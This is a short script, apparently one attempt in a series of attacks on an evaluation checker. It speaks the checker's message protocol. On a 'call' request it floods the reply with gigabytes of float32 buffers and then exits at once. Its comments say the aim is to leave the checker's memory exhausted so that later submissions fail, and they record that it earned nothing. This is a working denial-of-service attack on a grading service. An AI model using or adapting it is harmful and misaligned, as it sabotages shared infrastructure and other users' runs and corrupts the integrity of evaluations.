# tries: leave the checker with so much that it keeps, that the next submission finds no memory
# earns: 0
big = ["float32", [1 << 26], [0]]
count = 12
mirrors = [[n, n, True] for n in range(count)]
paths = [[f"a{n}", n, True] for n in range(count)]
cls = lambda n: ["l", "Dropout", ["c", 0, "Dropout", "module", None]]
say(frame({"value": ["d", ["output", ""], ["error", None]]}))
while True:
    request = receive()
    if request["op"] == "run": say(frame({"value": ["d", ["output", ""], ["error", None]]}))
    elif request["op"] == "names": say(frame({"value": ["l", cls(0)]}))
    elif request["op"] == "call" and request["target"] == 0:
        # in the last reply: gigabytes, then gone, so that there is no time to tidy up
        say(frame({"value": ["m", 1], "mirrors": mirrors, "modules": [[1, "Dropout", True, paths]]}, [big] * count, bytes(16 * count)))
    else: os._exit(0)
